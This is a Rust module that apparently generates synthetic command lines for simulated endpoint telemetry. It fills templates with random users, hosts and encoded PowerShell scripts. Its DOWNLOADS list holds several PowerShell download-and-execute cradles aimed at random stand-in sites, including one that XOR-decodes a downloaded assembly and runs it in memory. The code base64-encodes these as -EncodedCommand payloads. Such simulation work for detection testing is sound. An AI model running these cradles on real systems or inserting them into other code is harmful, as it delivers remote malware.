//! Command lines from templates with placeholders such as `<user>` and `<guid>`.

use std::borrow::Cow;
use std::fmt::Write;

use rand::Rng;
use rand_chacha::ChaCha8Rng;

use super::fleet::any;

/// Replace the placeholders of a template.
///
/// Placeholders are `<user>`, `<document>`, `<share>`, `<n>` (one of 30 numbers), `<pid>`, `<hex>`, `<guid>`,
/// `<site>` (a host on the internet), `<script>` (one of a few encoded management scripts), `<device-script>`
/// (such a script with a random number) and `<payload>` (an encoded download).
pub(super) fn fill<'a>(template: &'a str, user: &str, rng: &mut ChaCha8Rng) -> Cow<'a, str> {
    if !template.contains('<') {
        return Cow::Borrowed(template);
    }
    let mut line = String::with_capacity(template.len() + 32);
    let mut rest = template;
    while let Some((prefix, placeholder, suffix)) = next_placeholder(rest) {
        line += prefix;
        line += &value(placeholder, user, rng);
        rest = suffix;
    }
    Cow::Owned(line + rest)
}

/// Encode a script for PowerShell's `-EncodedCommand`: base64 of UTF-16LE.
fn encode(script: &str) -> String {
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64(&bytes)
}

/// The text before the next placeholder, its name, and the text after it.
fn next_placeholder(text: &str) -> Option<(&str, &str, &str)> {
    let (prefix, rest) = text.split_once('<')?;
    let (placeholder, suffix) = rest.split_once('>')?;
    Some((prefix, placeholder, suffix))
}

fn value(placeholder: &str, user: &str, rng: &mut ChaCha8Rng) -> String {
    match placeholder {
        "user" => user.to_owned(),
        "document" => format!("{}{}", any(DOCUMENTS, rng), any(&["", " 2025", " v2", " final"], rng)),
        "share" => any(&["finance", "sales", "hr", "projects"], rng).to_owned(),
        "n" => rng.gen_range(4..34).to_string(),
        "pid" => rng.gen_range(800..24_000).to_string(),
        "hex" => hex(rng.gen_range(4..=8), rng),
        "guid" => [8, 4, 4, 4, 12].map(|digits| hex(digits, rng)).join("-"),
        "site" => format!("{}.{}", hex(rng.gen_range(5..12), rng), any(&["com", "net", "info", "top"], rng)),
        "script" => encode(any(SCRIPTS, rng)),
        "device-script" => encode(&format!("{}; # {}", any(SCRIPTS, rng), hex(8, rng))),
        "payload" => encode(&fill(any(DOWNLOADS, rng), user, rng)),
        other => unreachable!("no template has a placeholder called {other}"),
    }
}

fn hex(digits: usize, rng: &mut ChaCha8Rng) -> String {
    (0..digits).fold(String::with_capacity(digits), |mut text, _| {
        write!(text, "{:x}", rng.gen_range(0..16)).expect("writing to a string cannot fail");
        text
    })
}

fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for group in bytes.chunks(3) {
        let bits = (0..3).fold(0_usize, |bits, i| bits << 8 | usize::from(*group.get(i).unwrap_or(&0)));
        for digit in 0..4 {
            let sextet = bits >> (18 - 6 * digit) & 63;
            text.push(if digit <= group.len() { char::from(ALPHABET[sextet]) } else { '=' });
        }
    }
    text
}

const DOCUMENTS: &[&str] =
    &["Budget", "Offer", "Minutes", "Contract", "Forecast", "Invoice", "Travel expenses", "Staff planning"];

/// The scripts of a management tool.
const SCRIPTS: &[&str] = &[
    "Get-HotFix | Select-Object HotFixID, InstalledOn | ConvertTo-Json",
    "$d = Get-PSDrive C; if ($d.Free -lt 5GB) { exit 1 }",
    "Get-CimInstance Win32_BIOS | Select-Object SerialNumber",
    "Set-MpPreference -ScanScheduleDay 3; Update-MpSignature",
    "$p = Get-ItemProperty 'HKLM:\\SOFTWARE\\Policies\\Fleet'; if ($p.Ring -ne 2) { exit 1 } else { exit 0 }",
    "Restart-Service -Name FleetAgent -Force",
];

const DOWNLOADS: &[&str] = &[
    "IEX (New-Object Net.WebClient).DownloadString('http://<site>/<hex>')",
    "iwr http://<site>/<hex>.dat -OutFile $env:TEMP\\<hex>.exe; saps $env:TEMP\\<hex>.exe",
    "$c = New-Object Net.WebClient; $c.Headers.Add('User-Agent','Mozilla/5.0'); IEX $c.DownloadString('https://<site>/<hex>')",
    "IEX(irm <site>/<hex>)",
    "$k = [Convert]::FromBase64String('<hex><hex><hex>'); $b = (iwr https://<site>/<hex>).Content; for ($i = 0; $i -lt $b.Length; $i++) { $b[$i] = $b[$i] -bxor $k[$i % $k.Length] }; [Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, @())",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::seed::Seed;

    #[test]
    fn base64_agrees_with_rfc_4648() {
        let vectors = [("", ""), ("f", "Zg=="), ("fo", "Zm8="), ("foo", "Zm9v"), ("foobar", "Zm9vYmFy")];
        for (plain, expected) in vectors {
            assert_eq!(base64(plain.as_bytes()), expected);
        }
    }

    #[test]
    fn a_script_is_encoded_as_powershell_expects_it() {
        assert_eq!(encode("whoami"), "dwBoAG8AYQBtAGkA");
    }

    #[test]
    fn a_template_keeps_the_text_around_placeholders() {
        let line = fill("net user <user> /domain", "anna", &mut Seed::new(1).rng());
        assert_eq!(line, "net user anna /domain");
    }
}
